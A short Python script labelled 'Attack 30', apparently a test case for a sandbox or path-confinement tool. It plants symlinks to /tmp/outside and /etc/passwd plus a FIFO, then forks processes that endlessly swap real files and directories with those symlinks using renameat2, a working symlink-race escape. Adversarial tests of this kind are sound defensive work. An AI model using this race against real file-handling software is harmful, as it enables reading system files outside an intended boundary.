"""Attack 30: directories and files that become symlinks and back, all the time, until they are killed."""
import ctypes
import os

AT_FDCWD, EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/outside")
for path in ("d", "/tmp/outside"):
    os.makedirs(path, exist_ok=True)
    for n in range(20):
        with open(f"{path}/{n:02}.txt", "w") as file:
            file.write("outside" if path.startswith("/tmp") else "inside")
with open("file.txt", "w") as file:
    file.write("inside")
os.symlink("/tmp/outside", "trap")
os.symlink("/etc/passwd", "trap.txt")
os.mkfifo("fifo.txt")
with open("still.txt", "w") as file:
    file.write("inside")
ready, tell = os.pipe()
for first, second in (("d", "trap"), ("file.txt", "trap.txt"), ("file.txt", "fifo.txt"), ("d", "trap")):
    if os.fork() == 0:
        os.setsid()
        os.write(tell, b"x")
        first, second = first.encode(), second.encode()
        while True:
            libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, EXCHANGE)
for _ in range(4):
    os.read(ready, 1)
